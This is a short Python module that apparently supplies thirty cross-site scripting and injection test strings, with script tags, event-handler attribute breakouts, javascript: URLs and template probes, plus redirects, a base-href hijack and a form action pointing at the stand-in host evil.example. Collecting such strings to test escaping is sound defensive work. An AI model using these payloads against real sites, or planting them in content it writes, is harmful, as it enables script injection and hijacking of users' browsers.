"""Thirty texts that become more than texts where a page is careless; each would set `window.pwned` or show a dialog."""

from __future__ import annotations

SEPARATOR = " ~ "

PAYLOADS = (
    "<script>alert(1)</script>",
    "<script>window.pwned=1</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    '"><script>alert(5)</script>',
    "'><script>alert(6)</script>",
    '" onmouseover="alert(7)" x="',
    "' onfocus='alert(8)' autofocus='",
    "</title><script>alert(9)</script>",
    "</textarea><script>alert(10)</script>",
    "</pre><script>alert(11)</script>",
    "</script><script>alert(12)</script>",
    "<!--><script>alert(13)</script>-->",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:alert(14)></iframe>",
    "<a href=javascript:alert(15)>click</a>",
    "javascript:alert(16)",
    "data:text/html,<script>alert(17)</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<object data=javascript:alert(18)></object>",
    "<embed src=javascript:alert(19)>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<details open ontoggle=alert(20)>",
    "<math><mtext></mtext><script>alert(21)</script></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(22)&lt;/script&gt;",
    "<scr\u200bipt>alert(23)</scr\u200bipt>\u202etxet",
)
